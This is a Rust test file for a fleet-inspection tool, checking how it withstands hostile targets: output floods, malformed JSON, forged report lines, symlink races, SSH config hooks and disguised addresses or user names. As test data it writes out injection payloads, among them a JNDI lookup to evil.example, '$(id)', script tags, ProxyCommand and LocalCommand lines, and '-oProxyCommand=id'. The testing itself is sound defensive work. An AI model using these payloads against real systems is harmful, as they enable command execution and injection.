//! The catalogue's rows about targets (docs/threats.md 2.5, 2.7, 2.8: TG, and those of FS and NW that need a machine), as sweeps of
//! the real program with the standing invariants around them. `tests/tests/program/ssh` tests what the transport does about each in
//! detail, and `host/sandbox/src/host/tests.rs` what the readers do.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use anyhow::{Context, Result, ensure};
use bailiwick_core::fleet;
use bailiwick_core::fleet::{Address, UserName};
use bailiwick_core::model::Answer;
use bailiwick_core::model::Exit;
use bailiwick_core::model::{AbsolutePath, Action, ActionId, Verb, VerbError, Wire};
use bailiwick_core::source::Source;
use bailiwick_sandbox::parse;
use bailiwick_tests::fleet::{Entry, never, text};
use bailiwick_tests::hostile::Act;
use bailiwick_tests::invariants::{Case, Swept, TargetKind, case, light};
use bailiwick_tests::ops::{Ops, slotless, target_result};
use bailiwick_tests::sshd::Sshd;
use bailiwick_transport::local;
use serde_json::Value;

use crate::PROGRAM;

fn on<T>(kind: TargetKind, work: impl FnOnce(&mut Case) -> Result<T>) -> Result<T> {
    case(PROGRAM, &Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/guests"), kind, work)
}

/// The result of `system.load` on a server that does this: the guest's error, and the operator's cause.
fn against(act: Act) -> Result<(String, String)> {
    on(TargetKind::Hostile(act), |case| {
        case.hostile("sleep-in-verb")?;
        let swept = case.sweep()?;
        let title =
            swept.outcome("bad-sleep-in-verb")?["findings"][0]["title"].as_str().context("no finding")?.to_owned();
        let call = swept.calls("bad-sleep-in-verb")?.first().context("no call")?;
        // The journal has an outcome for each intent, of both sweeps.
        let count = |kind: &str| swept.journal.matches(&format!("\"kind\":\"{kind}\"")).count();
        ensure!(count("intent") == 2 && count("outcome") == 2, "{}", swept.journal);
        if let Some(server) = case.hostile_server() {
            ensure!(server.opened().iter().all(|(_, accepted)| !accepted), "{:?}", server.opened());
        }
        Ok((title, call["cause"].as_str().unwrap_or_default().to_owned()))
    })
}

/// The findings of the guest that reports the content of a file.
fn findings(swept: &Swept) -> Result<&Vec<Value>> {
    swept.outcome("bad-tell-file")?["findings"].as_array().with_context(|| swept.json.to_string())
}

/// Sweeps with a guest that reports the content of this file.
fn sweep_with_file(kind: TargetKind, path: &Path) -> Result<Swept> {
    on(kind, |case| {
        case.hostile_with("tell-file", &format!("bind.file = {}\n", text(&path.display().to_string())))?;
        case.sweep()
    })
}

#[test]
fn tg01_a_flood_is_cut_and_costs_one_answer() -> Result<()> {
    for act in [Act::FloodStdout, Act::FloodStderr] {
        let (title, cause) = against(act)?;
        ensure!(title == "too-large" && cause.contains("bytes"), "{act:?}: {title} ({cause})");
    }
    Ok(())
}

#[test]
fn tg02_an_unrequested_flood_ends_the_connection() -> Result<()> {
    let (title, cause) = against(Act::FloodBeside)?;
    ensure!(title == "unreachable", "{title} ({cause})");
    Ok(())
}

#[test]
fn tg03_a_server_that_stops_in_the_middle_is_left() -> Result<()> {
    for (act, expected) in [(Act::NoChannel, "timed-out"), (Act::Vanish, "unreachable")] {
        let (title, cause) = against(act)?;
        ensure!(title == expected && !cause.is_empty(), "{act:?}: {title} ({cause})");
    }
    Ok(())
}

fn answer(status: u32, stdout: &[u8]) -> Answer {
    Answer { stdout: stdout.to_vec(), stderr: Vec::new(), exit: Exit::Status(status), timing: None }
}

/// Verbs whose answer may be any text: files, and what an operator's own program says.
const ANYTHING: &[Verb] = &[Verb::FilesRead, Verb::CommandsRun];

/// One line of `journalctl --output=json`, with this message as JSON.
fn entry(message: &str) -> String {
    format!("{{\"__REALTIME_TIMESTAMP\":\"1700000000000000\",\"PRIORITY\":\"3\",\"MESSAGE\":{message}}}\n")
}

#[test]
fn tg05_an_answer_made_to_break_its_reader_is_garbled() -> Result<()> {
    let logs = |text: &[u8]| parse(Verb::ServicesLogs, &answer(0, text)).map(|_| ());
    let fine = entry("\"hello\"");
    ensure!(logs(fine.as_bytes()).is_ok(), "a plain one is read");
    let deep = "[".repeat(1_000_000) + &"]".repeat(1_000_000);
    let objects = "{\"a\":".repeat(1_000_000) + "1" + &"}".repeat(1_000_000);
    let number = "9".repeat(10 << 20);
    let garbled = [
        entry(&deep),
        entry(&objects),
        entry("NaN"),
        entry(&number),
        entry("{\"__proto__\":1}"),
        entry("true"),
        format!("\u{feff}{fine}"),
        fine.replace("\"PRIORITY\"", "\"PRIORITY\":\"3\",\"PRIORITY\""),
        fine.replace("\"MESSAGE\"", "\"MESSAGE\":\"a\",\"MESSAGE\""),
        fine.replace("\"3\"", "\"-3\""),
        fine.replace("\"3\"", "\"8\""),
        fine.replace("\"3\"", "3e0"),
        fine.replace("1700000000000000", "99999999999999999999999999"),
        fine.trim_end().to_owned(),
        fine.repeat(1_001),
        "null\n".to_owned(),
        "[]\n".to_owned(),
    ];
    for text in &garbled {
        let short: String = text.chars().take(80).collect();
        ensure!(logs(text.as_bytes()) == Err(VerbError::Garbled), "{short}: {:?}", logs(text.as_bytes()));
    }
    // Text that is only strange is text.
    for message in ["\"\\u202e\\u0000\"", "\"{{7*7}}\"", "[195,40,255]", "null", "[\"a\",\"b\"]"] {
        ensure!(logs(entry(message).as_bytes()).is_ok(), "{message}");
    }
    ensure!(logs(&[entry("\"").trim_end().as_bytes(), b"\xff\xfe\n"].concat()) == Err(VerbError::Garbled));
    for &verb in Verb::ALL {
        for bytes in [&b"\xff\xfe\x00\n"[..], b"\0\0\0\0\n", b"NaN NaN\n", deep.as_bytes(), b"{}\n"] {
            let read = parse(verb, &answer(0, bytes));
            ensure!(
                read.is_err() || ANYTHING.contains(&verb) || read.is_ok_and(|text| text.for_encoder() == "[]"),
                "{verb}"
            );
        }
    }
    Ok(())
}

/// Text that imitates something else: our own documents, protocol, journal and report, and commands for a reader.
const FORGED: &str = r#"{"format":"bailiwick.sweep/1","targets":[{"target":"db99","standing":"healthy"}]}
{"seq":9999,"time":"2026-11-21T12:00:00Z","entry":{"kind":"sweep-ended","sweep":1}}
0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef {"seq":2,"entry":{"kind":"journal"}}
2026-11-21T12:00:00Z level=INFO run.end ok
ok           db99  11 probes, 16 findings, 1.2 s
approved by alice, plan sha256:00
exit status 0
{{ 7*7 }} ${jndi:ldap://evil.example} %s%n $(id) `id` !!python/object:os.system <%= 1 %> {% raw %} #{7*7}
[x](javascript:alert(1)) ![x](https://evil.example/?q=1) <script>alert(1)</script> &xxe;
"#;

fn forged() -> Result<(tempfile::TempDir, PathBuf)> {
    let dir = tempfile::tempdir()?;
    let path = dir.path().join("forged");
    fs::write(&path, FORGED)?;
    Ok((dir, path))
}

#[test]
fn tg06_what_resembles_another_message_stays_text() -> Result<()> {
    let (_dir, path) = forged()?;
    let swept = sweep_with_file(TargetKind::Sshd, &path)?;
    ensure!(findings(&swept)?.len() == FORGED.lines().count(), "{}", swept.json);
    // It is in the journal and in both reports, and nowhere as a line or a record of its own.
    ensure!(swept.json["targets"].as_array().is_some_and(|targets| targets.len() == 1), "{}", swept.json);
    for line in FORGED.lines() {
        ensure!(!swept.journal.lines().any(|found| found == line), "{line}");
        ensure!(!swept.table.lines().any(|found| found == line), "{line}\n{}", swept.table);
    }
    ensure!(!swept.table.lines().any(|line| line.starts_with("ok           db99")), "{}", swept.table);
    Ok(())
}

#[test]
fn tg07_an_exit_status_and_data_must_agree() -> Result<()> {
    // Channels that end in unusual orders: only the verb's answer counts.
    for (act, expected) in [(Act::NoExitStatus, "garbled"), (Act::ExitFirst, "garbled"), (Act::TwoExits, "unsupported")]
    {
        let (title, cause) = against(act)?;
        ensure!(title == expected, "{act:?}: {title} ({cause})");
    }
    let load = b"/proc/loadavg:0.65 1.37 0.79 2/89 13375\n/sys/devices/system/cpu/online:0-3\n";
    let read = |exit| parse(Verb::SystemLoad, &Answer { exit, ..answer(0, load) }).map(|_| ());
    ensure!(read(Exit::Status(0)).is_ok());
    for exit in [Exit::Status(3), Exit::Status(255), Exit::Status(u32::MAX), Exit::Signal, Exit::Unreported] {
        ensure!(read(exit).is_err(), "{exit:?} and data");
    }
    // Success without data, and with half of it.
    for stdout in [&b""[..], b"ok\n", &load[..load.len() - 1], &load[..20]] {
        ensure!(parse(Verb::SystemLoad, &answer(0, stdout)).is_err(), "{stdout:?}");
    }
    Ok(())
}

#[test]
fn tg09_no_template_is_ever_evaluated() -> Result<()> {
    let (_dir, path) = forged()?;
    for kind in [TargetKind::Local, TargetKind::Sshd] {
        let swept = sweep_with_file(kind, &path)?;
        let titles: Vec<_> = findings(&swept)?.iter().filter_map(|finding| finding["title"].as_str()).collect();
        for (title, line) in titles.iter().zip(FORGED.lines()) {
            // As it was, up to the length that the guest cuts it to.
            ensure!(line.starts_with(*title) && title.len() >= line.len().min(150), "{title}\n{line}");
        }
    }
    Ok(())
}

#[test]
fn nw12_no_ssh_configuration_is_read() -> Result<()> {
    on(TargetKind::Sshd, |case| {
        case.hostile("sleep-in-verb")?;
        let marker = tempfile::tempdir()?;
        let touched = marker.path().join("touched");
        let touch = format!("touch {}", touched.display());
        case.home(
            ".ssh/config",
            &format!(
                "Match exec \"{touch}\"\n  User nobody\nHost *\n  ProxyCommand {touch}\n  KnownHostsCommand /bin/sh -c \"{touch}\"\n  \
                 PermitLocalCommand yes\n  LocalCommand {touch}\n  Port 1\n  User nobody\n  Include /dev/stdin\n  IdentityFile /nonexistent\n"
            ),
        );
        case.home(
            ".ssh/known_hosts",
            "* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJqfk1n5bPiBjCJ1ThHaJ4K0wqMbrzj8h1g1yRTpZqXp\n",
        );
        case.home(".ssh/rc", &format!("{touch}\n"));
        let swept = case.sweep()?;
        ensure!(swept.outcome("bad-sleep-in-verb")?["findings"][0]["title"] == "answered", "{}", swept.json);
        ensure!(!touched.exists(), "a line of ssh_config was run");
        Ok(())
    })
}

#[test]
fn nw17_what_a_server_opens_is_refused() -> Result<()> {
    on(TargetKind::Hostile(Act::OpenBack), |case| {
        case.hostile("sleep-in-verb")?;
        case.sweep()?;
        let opened = case.hostile_server().context("no server")?.opened();
        // Two sweeps, seven kinds each.
        ensure!(opened.len() == 14 && opened.iter().all(|(_, accepted)| !accepted), "{opened:?}");
        Ok(())
    })
}

#[test]
fn nw11_one_key_is_one_machine_and_no_never_host_is_reached_by_another_name() -> Result<()> {
    let sshd = Sshd::plain()?;
    let pin = sshd.host_key("ed25519")?;
    let two = format!(
        "[targets.a]\naddress = \"192.0.2.1\"\nuser = \"bw\"\nidentity = \"/x\"\nhost-key = {pin:?}\n\
         [targets.b]\naddress = \"192.0.2.2\"\nuser = \"bw\"\nidentity = \"/x\"\nhost-key = {pin:?}\n"
    );
    let found = fleet::parse(&Source::embedded("fleet.toml", &two), Path::new("/"), None);
    ensure!(found.is_err_and(|problems| problems.0.len() == 1), "one key on two targets");
    let address = sshd.address().ip().to_string();
    for spelt in [address.clone(), format!("::ffff:{address}")] {
        let rule = never("fw01", &[("addresses", &format!("[{spelt:?}]"))]);
        let ops = Ops::new(PROGRAM, &[Entry::for_sshd("db01", &sshd)?], &[rule], &slotless(&["db01"]))?;
        let (code, sweep) = ops.check(&[])?;
        ensure!(code == 3 && target_result(&sweep, "db01")?["kind"] == "refused", "{sweep}");
    }
    ensure!(sshd.connections()? == 0, "{}", sshd.log()?);
    Ok(())
}

#[test]
fn fs06_a_link_is_not_followed_here_and_named_as_one_there() -> Result<()> {
    // The link leads to a secret; that no canary is anywhere is a standing invariant.
    on(TargetKind::Local, |case| {
        let link = case.scene().link();
        case.hostile_with("tell-file", &format!("bind.file = {}\n", text(&link.display().to_string())))?;
        let swept = case.sweep()?;
        ensure!(findings(&swept)?[0]["title"] == "not-found", "{}", swept.json);
        Ok(())
    })?;
    // Over plain SSH `head` follows it, within the account's rights (SECURITY.md); `stat` says what it is, and not where to.
    let link = answer(0, b"a1ff,9,1700000000,root,root\n");
    let read = parse(Verb::FilesStat, &link).map_err(|error| anyhow::anyhow!("{error:?}"))?;
    ensure!(read.for_encoder().contains("Symlink"), "{read:?}");
    on(TargetKind::Sshd, |case| {
        let link = case.scene().link();
        case.hostile_with("stat-file", &format!("bind.file = {}\n", text(&link.display().to_string())))?;
        let swept = case.sweep()?;
        ensure!(swept.outcome("bad-stat-file")?["findings"][0]["title"] == "symlink", "{}", swept.json);
        Ok(())
    })
}

fn reading(path: &Path) -> Result<Action> {
    let path = AbsolutePath::new(path.to_str().context("path")?)?;
    let (verb, id) = (Verb::FilesRead, ActionId::new(Verb::FilesRead, None));
    Ok(Action { id, verb, literal: None, wire: Wire::Read(path) })
}

#[test]
fn fs07_a_file_that_becomes_a_link_and_back_gives_nothing_away() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let (path, secret) = (dir.path().join("file"), dir.path().join("secret"));
    fs::write(&path, "harmless")?;
    fs::write(&secret, "the secret")?;
    let done = Arc::new(AtomicBool::new(false));
    let swapper = std::thread::spawn({
        let (done, path, secret, dir) = (Arc::clone(&done), path.clone(), secret.clone(), dir.path().to_owned());
        move || -> std::io::Result<()> {
            let (link, file) = (dir.join("new-link"), dir.join("new-file"));
            while !done.load(Ordering::Relaxed) {
                symlink(&secret, &link)?;
                fs::rename(&link, &path)?;
                fs::write(&file, "harmless")?;
                fs::rename(&file, &path)?;
            }
            Ok(())
        }
    });
    let action = reading(&path)?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let (mut read, mut refused) = (0, 0);
    for _ in 0..4_000 {
        let answer = runtime.block_on(local::run(&action))?;
        ensure!(!String::from_utf8_lossy(&answer.stdout).contains("secret"), "the link was followed");
        match answer.exit {
            Exit::Status(0) => read += 1,
            _ => refused += 1,
        }
    }
    done.store(true, Ordering::Relaxed);
    swapper.join().map_err(|_| anyhow::anyhow!("the swapping thread broke"))??;
    ensure!(read > 0 && refused > 0, "{read} were read, {refused} refused: the race was not met");
    Ok(())
}

#[test]
fn fs08_what_is_not_a_file_is_not_opened() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let (fifo, socket) = (dir.path().join("fifo"), dir.path().join("socket"));
    ensure!(Command::new("mkfifo").arg(&fifo).status()?.success());
    let _listener = UnixListener::bind(&socket)?;
    fs::set_permissions(dir.path(), fs::Permissions::from_mode(0o755))?;
    for path in [&fifo, &socket, &dir.path().to_owned()] {
        let swept = sweep_with_file(TargetKind::Local, path)?;
        let title = findings(&swept)?[0]["title"].as_str().unwrap_or_default();
        ensure!(["not-found", "garbled"].contains(&title), "{}: {title}", path.display());
    }
    // Over SSH a socket cannot be opened, a folder not be read. (A pipe holds `head` up until its verb's time is over:
    // `a_lost_machine_fails_every_action_on_it` has four of them.)
    for path in [&socket, &dir.path().to_owned()] {
        let swept = sweep_with_file(TargetKind::Sshd, path)?;
        let title = findings(&swept)?[0]["title"].as_str().unwrap_or_default();
        ensure!(["not-found", "garbled"].contains(&title), "{}: {title}", path.display());
    }
    Ok(())
}

#[test]
fn fs10_a_folder_is_never_listed() -> Result<()> {
    // There is no verb that lists one; bound as a file it is not one, however many names it holds.
    let dir = tempfile::tempdir()?;
    for n in 0..10_000 {
        fs::write(dir.path().join(format!("n{n}")), "")?;
    }
    let runtime = light(async { local::run(&reading(dir.path())?).await.map_err(anyhow::Error::from) })??;
    ensure!(runtime.exit == Exit::Status(1) && runtime.stdout.is_empty(), "{runtime:?}");
    let swept = sweep_with_file(TargetKind::Sshd, dir.path())?;
    ensure!(!swept.journal.contains("n9999") && findings(&swept)?[0]["title"] == "not-found", "{}", swept.json);
    Ok(())
}

/// The mistakes in a fleet with one such target.
fn fleet_mistakes(fields: &str) -> Vec<String> {
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJqfk1n5bPiBjCJ1ThHaJ4K0wqMbrzj8h1g1yRTpZqXp";
    let all = format!("[targets.db01]\nidentity = \"/x\"\nhost-key = \"{key}\"\n{fields}");
    let found = fleet::parse(&Source::embedded("fleet.toml", &all), Path::new("/"), None);
    found.err().map(|problems| problems.0.iter().map(|problem| problem.render(false)).collect()).unwrap_or_default()
}

#[test]
fn nw01_an_address_in_disguise_is_none() -> Result<()> {
    ensure!(fleet_mistakes("address = \"10.0.0.1\"\nuser = \"bw\"\n").is_empty(), "a plain one is");
    let disguised = [
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "127.1",
        "0.0.0.0",
        "::",
        "255.255.255.255",
        "224.0.0.1",
        "[::1]",
        "127.0.0.1:22",
        "http://169.254.169.254/",
        "\u{2460}\u{2461}\u{2466}",
        "ex\u{e4}mple.org",
        "user@host",
        "10.0.0.1 ",
        " 10.0.0.1",
        "10.0.0.0/8",
        "fe80::1%eth0",
        "a..b",
        "-a.example",
        "1.2.3.0x10",
        "a_b.",
        "",
    ];
    let loaded: Vec<_> = disguised.iter().filter(|text| Address::new(text).is_ok()).collect();
    // An underscore is in many an internal name.
    ensure!(loaded == [&"a_b."], "{loaded:?}");
    for text in disguised.iter().filter(|text| **text != "a_b.") {
        let mistakes = fleet_mistakes(&format!("address = {}\nuser = \"bw\"\n", bailiwick_tests::fleet::text(text)));
        ensure!(mistakes.len() == 1 && mistakes[0].contains("fleet.toml:4"), "{text:?}: {mistakes:?}");
    }
    ensure!(Address::new("::ffff:10.0.0.5") == Address::new("10.0.0.5"), "one address is one");
    ensure!(Address::new("LOCALHOST.") == Address::new("localhost"), "one name is one");
    Ok(())
}

#[test]
fn nw13_a_host_or_account_is_not_an_option_and_not_a_command() -> Result<()> {
    let values = [
        "-oProxyCommand=id",
        "--",
        "a;id",
        "$(id)",
        "`id`",
        "a b",
        "a'b",
        "a\"b",
        "a|b",
        "a\nb",
        "a\0b",
        "%h",
        "a@b",
        "a/b",
        "\u{202e}",
        "*",
        "",
    ];
    for value in values {
        ensure!(UserName::new(value).is_err(), "{value:?}");
        let value = text(value);
        for fields in
            [format!("address = {value}\nuser = \"bw\"\n"), format!("address = \"10.0.0.1\"\nuser = {value}\n")]
        {
            let mistakes = fleet_mistakes(&fields);
            ensure!(mistakes.len() == 1, "{fields}: {mistakes:?}");
        }
    }
    Ok(())
}
